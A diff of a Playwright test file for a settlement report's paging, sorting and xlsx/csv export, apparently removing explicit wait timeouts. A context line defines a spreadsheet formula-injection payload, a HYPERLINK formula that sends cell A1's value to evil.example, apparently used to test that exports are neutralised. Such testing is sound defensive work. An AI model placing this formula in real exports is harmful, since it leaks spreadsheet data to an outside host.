@@ -27,7 +27,7 @@ const HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"Open")';
 const bodyRows = (page) => tableRows(page.getByTestId('settlement-table'));
 
 async function waitReady(page) {
-  await page.locator('[data-testid=settlement-table][data-state=ready]').waitFor({ timeout: 20000 });
+  await page.locator('[data-testid=settlement-table][data-state=ready]').waitFor();
 }
 
 async function openReport(page, baseURL, search = '') {
@@ -220,7 +220,7 @@ test('settlement: pages and sorts on the server; back and forward restore the re
   // The link opens the same report in another tab.
   const other = await page.context().newPage();
   await other.goto(page.url());
-  await other.locator('[data-testid=settlement-table][data-state=ready]').waitFor({ timeout: 20000 });
+  await other.locator('[data-testid=settlement-table][data-state=ready]').waitFor();
   expect(await bodyRows(other).allTextContents()).toEqual(firstPage);
 });
 
@@ -306,14 +306,13 @@ test('settlement: exports the whole filtered range to xlsx and csv in a worker, 
         name: format === 'xlsx' ? 'Export Excel (.xlsx)' : 'Export CSV (.csv)',
       });
       // The confirmation is a toast that leaves after 3 s: watch for it from the click on, while the file is read.
-      // Fetching every page and building the file in the worker took over 30 s on a loaded machine: allow the download's time.
       const toastShown = page
         .getByText(`Exported ${expected.rows.length} rows to settlement_${start}_${today}.${format}`)
-        .waitFor({ timeout: 60000 });
+        .waitFor();
       // By keyboard, like the other anchored popups: the menu follows its button when the page scrolls.
       // The closed menu stays in the DOM with its last contents: press only once it is open.
       await item.waitFor({ state: 'visible' });
-      const [download] = await Promise.all([page.waitForEvent('download', { timeout: 60000 }), item.press('Enter')]);
+      const [download] = await Promise.all([page.waitForEvent('download'), item.press('Enter')]);
       expect(download.suggestedFilename()).toBe(`settlement_${start}_${today}.${format}`);
       const file = await download.path();
       const matrix =
